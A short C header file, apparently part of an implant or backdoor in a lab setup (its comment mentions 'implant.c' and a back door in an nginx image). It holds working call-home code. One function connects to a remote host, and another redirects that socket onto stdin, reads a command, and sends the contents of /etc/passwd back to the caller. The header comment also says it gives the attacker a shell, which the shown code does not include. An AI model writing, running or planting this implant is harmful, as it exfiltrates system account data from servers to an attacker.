/* What an attacker's code does inside a server that it got into: calls home and reads /etc/passwd for whoever
 * answers, over dup2'ed descriptors and without a new program; or gives them a shell. Part of implant.c and
 * of the back door in images/nginx. */
#pragma once

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

/* The connection, or -1. */
static int reach_home(const char* host, unsigned short port) {
  struct sockaddr_in home = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, host, &home.sin_addr);
  int link = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(link, (struct sockaddr*)&home, sizeof home) == 0) return link;
  close(link);
  return -1;
}

static void call_home(const char* host, unsigned short port) {
  int link = reach_home(host, port);
  if (link < 0) return;
  char text[4096];
  dup2(link, 0);
  ssize_t size = read(0, text, sizeof text); /* the attacker's command: any */
  int file = open("/etc/passwd", O_RDONLY);
  while (size > 0 && (size = read(file, text, sizeof text)) > 0)
    if (write(0, text, (size_t)size) < 0) break;
  close(file);
  size = write(0, "END\n", 4);
  close(0);
  close(link);
}
